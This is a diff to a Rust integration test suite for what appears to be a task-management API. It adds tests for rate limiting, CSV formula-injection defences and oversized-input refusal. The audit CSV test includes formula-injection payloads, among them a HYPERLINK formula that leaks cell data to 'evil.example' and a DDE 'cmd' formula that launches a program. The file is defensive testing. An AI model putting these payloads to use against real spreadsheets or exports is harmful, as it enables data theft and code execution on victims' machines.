@@ -247,9 +247,16 @@ async fn made_up_tokens_share_the_address_budget() {
         statuses.push(res.status().as_u16());
     }
     assert_eq!(statuses, [401, 401, 401, 401, 401, 429, 429, 429]);
-    // A real token has its own budget.
+    // A real token has its own budget, however its header is spelled: one more space after
+    // `Bearer` is the same token, not a fresh budget.
     let sup = Rest::sign_in(&app, "supervisor@gad.local", DEMO_PASSWORD, true).await;
-    assert_eq!(sup.get("/tasks").await.0, StatusCode::OK);
+    let mut statuses = Vec::new();
+    for n in 0..7 {
+        let header = format!("{}{}{}", if n % 2 == 0 { "Bearer " } else { "bearer " }, " ".repeat(n), sup.token);
+        let res = http.get(app.url("/api/v1/tasks")).header("authorization", header).send().await.unwrap();
+        statuses.push(res.status().as_u16());
+    }
+    assert_eq!(statuses, [200, 200, 200, 200, 200, 429, 429]);
 }
 
 /// Anonymous POSTs with fresh `Idempotency-Key`s store nothing (they could fill Redis); an
@@ -538,12 +545,17 @@ async fn audit_csv_cells_are_not_formulas(backend: Backend) {
     let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"ver\")";
     let (status, body) = admin.patch(&format!("/users/{id}"), &json!({ "first_name": evil })).await;
     assert_eq!(status, StatusCode::OK, "{body}");
+    // Excel in Spanish splits rows on `;`, past our quotes: a formula after one is text too.
+    let (status, body) =
+        admin.patch(&format!("/users/{id}"), &json!({ "last_name": "Ríos;=1+cmd|' /C calc'!A0;" })).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
     // The supervisor acts, so their name lands in the log's "usuario" column.
     let sup = Rest::sign_in(&app, "supervisor@gad.local", DEMO_PASSWORD, false).await;
     assert_eq!(sup.post("/tasks", &json!({ "title": "Ronda", "task_type": "patrol" })).await.0, StatusCode::CREATED);
     let csv = admin.request(reqwest::Method::GET, "/audit.csv").send().await.unwrap().text().await.unwrap();
-    let cells: Vec<&str> = csv.lines().flat_map(|line| line.split(',')).collect();
+    let cells: Vec<&str> = csv.lines().flat_map(|line| line.split([',', ';', '\t'])).collect();
     assert!(csv.contains("'=HYPERLINK"), "{csv}");
+    assert!(csv.contains("Ríos;'=1+cmd"), "{csv}");
     assert!(!cells.iter().any(|c| c.trim_start_matches('"').starts_with('=')), "a cell starts a formula:\n{csv}");
 }
 on_both_backends!(audit_csv_cells_are_not_formulas);
@@ -653,4 +665,66 @@ async fn unbounded_fields_are_refused() {
     assert_eq!((status, crate::common::problem_fields(&body)), (StatusCode::BAD_REQUEST, vec!["text".to_owned()]));
     let (status, _) = admin.get("/users?text=gad.local").await;
     assert_eq!(status, StatusCode::OK);
+}
+
+/// What is larger than any valid value is refused before it reaches a store or the database,
+/// with a 400 and its field: a task filter (the list's cache key) with a huge text or more
+/// statuses than exist (past the database's bound parameters it was a 500), a task or an
+/// emergency with thousands of officers (one error line each), a week beyond the calendar
+/// (the digest panicked), and a phone padded with spaces is stored as checked.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn oversized_values_are_refused_before_any_store() {
+    let app = TestApp::spawn(Backend::Sqlite).await;
+    let sup = app.login("supervisor@gad.local", DEMO_PASSWORD).await;
+    let query = |filter: Value| {
+        let (client, url) = (sup.clone(), app.url("/api/fn/query_tasks"));
+        async move {
+            let res = client.post(url).header(ACCEPT, "application/json").json(&json!({ "filter": filter })).send();
+            let res = res.await.unwrap();
+            (res.status(), res.text().await.unwrap())
+        }
+    };
+    let (status, body) = query(json!({ "statuses": vec!["scheduled"; 70_000] })).await;
+    assert_eq!(status, StatusCode::BAD_REQUEST, "{}", &body[..body.len().min(300)]);
+    assert!(body.contains("statuses"), "{body}");
+    let (status, body) = query(json!({ "text": "x".repeat(300_000) })).await;
+    assert_eq!(status, StatusCode::BAD_REQUEST, "{}", &body[..body.len().min(300)]);
+    let (status, body) = query(json!({ "cursor": "c".repeat(10_000) })).await;
+    assert_eq!(status, StatusCode::BAD_REQUEST, "{}", &body[..body.len().min(300)]);
+    let (status, body) = query(json!({ "statuses": ["scheduled", "in_progress"], "text": "ronda" })).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+
+    let rest = Rest::sign_in(&app, "supervisor@gad.local", DEMO_PASSWORD, false).await;
+    let ids: Vec<i64> = (1_000_000..1_005_000).collect();
+    let (status, body) = rest.post("/tasks", &json!({ "title": "Operativo", "task_type": "patrol", "officer_ids": ids })).await;
+    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
+    let errors = body["errors"].as_array().unwrap();
+    assert_eq!(errors.len(), 1, "one error, not one a id: {}", errors.len());
+    assert!(errors[0]["message"].as_str().unwrap().contains("hasta 200"), "{body}");
+    let (status, body) = rest
+        .post(
+            "/emergencies",
+            &json!({ "lat": -34.6, "lon": -58.4, "assign": { "officers": (1..=21).collect::<Vec<i64>>() } }),
+        )
+        .await;
+    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
+
+    let res = app.call(&sup, "feedback_digest", &[("week", "+262142-12-31")]).await;
+    let status = res.status();
+    let body = res.text().await.unwrap();
+    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
+    assert!(body.contains("1900"), "{body}");
+
+    let admin = Rest::sign_in(&app, "admin@gad.local", ADMIN_PASSWORD, false).await;
+    let padded = format!("123{}", " ".repeat(5_000));
+    let (status, body) = admin
+        .post(
+            "/users",
+            &json!({ "dni": "47654321", "first_name": "Ana", "last_name": "Paz",
+            "email": "ana.paz@gad.local", "role": "supervisor", "phone": padded }),
+        )
+        .await;
+    assert_eq!(status, StatusCode::CREATED, "{body}");
+    let stored = users::Entity::find().filter(users::Column::Email.eq("ana.paz@gad.local")).one(&app.state.db).await;
+    assert_eq!(stored.unwrap().unwrap().phone.as_deref(), Some("123"));
 }
